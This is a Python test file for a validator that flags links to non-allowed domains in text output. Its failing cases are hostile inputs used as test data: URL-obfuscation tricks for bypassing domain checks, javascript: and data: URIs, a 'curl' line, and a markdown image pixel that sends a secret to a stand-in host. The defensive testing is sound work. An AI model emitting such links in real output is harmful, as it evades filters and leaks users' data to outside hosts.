import json

import pytest

from pyvalidators import ConfigError, get


def refused(verdict, output, **config):
    result = verdict("links_allowed", {"domains": ["example.com"], **config}, output)
    assert result.status == "ok"
    links = json.loads(result.details)["links"] if result.details else []
    assert result.passed == (not links)
    return links


@pytest.mark.parametrize(
    "output",
    [
        "",
        "no links, 3:2, a/b, C:\\temp, e.g. this",
        "see https://docs.example.com/x).",
        "(http://example.com), **https://EXAMPLE.com:8080/?q=1**",
        "[help](/help) [top](#top) ![](logo.png)",
        "[mail](mailto:a@b.c) or tel:+49",
        "https://ｅxample.com",
        "www.example.com",
    ],
)
def test_links_to_the_domain_and_no_links_pass(verdict, output):
    assert refused(verdict, output) == []


@pytest.mark.parametrize(
    ("output", "link"),
    [
        ("https://example.com.evil.org", "https://example.com.evil.org"),
        ("https://notexample.com", "https://notexample.com"),
        ("https://example.com@evil.org/", "https://evil.org"),
        ("https://evil.org\\@example.com", "https://evil.org"),
        ("https://%65vil.org", "https://evil.org"),
        ("HTTPS:\\\\evil.org", "https://evil.org"),
        ("[x](https&#58;//evil.org)", "https://evil.org"),
        ("![pixel](//evil.org/?q=the+secret)", "//evil.org"),
        ("[a][b]\n\n[b]: http://evil.org", "http://evil.org"),
        ("<a href='//evil.org'>x</a>", "//evil.org"),
        ('<img src="https&#58;//evil.org">', "https://evil.org"),
        ("www.evil.org", "//www.evil.org"),
        ("`curl https://evil.org`", "https://evil.org"),
        ("[x](javascript:alert(1))", "javascript:"),
        ("[x](data:text/html;base64,PHg+)", "data:"),
        ("ftp://example.com", "ftp://example.com"),
        ("https://bücher.de", "https://xn--bcher-kva.de"),
        ("https://[::1", "https://?"),
    ],
)
def test_links_elsewhere_fail_and_name_only_the_host(verdict, output, link):
    assert refused(verdict, output) == [link]


def test_the_listed_domains_can_be_the_forbidden_ones(verdict):
    assert refused(verdict, "https://other.org", negate=True) == []
    assert refused(verdict, "https://a.example.com", negate=True) == ["https://a.example.com"]


def test_no_domain_allows_no_link(verdict):
    assert refused(verdict, "https://a.org /b", domains=[]) == ["https://a.org"]


def test_the_schemes_are_a_choice(verdict):
    assert refused(verdict, "http://example.com", schemes=["https"]) == ["http://example.com"]


def test_a_domain_in_another_alphabet_is_the_same_domain(verdict):
    assert refused(verdict, "https://xn--bcher-kva.de", domains=["bücher.de"]) == []


@pytest.mark.parametrize("domain", ["", "https://example.com", "example.com/x", "*.example.com", "example.com:80"])
def test_what_is_no_domain_is_refused(domain):
    with pytest.raises(ConfigError, match=r"expected a name such as 'example\.com'"):
        get("links_allowed").check_config({"domains": [domain]})
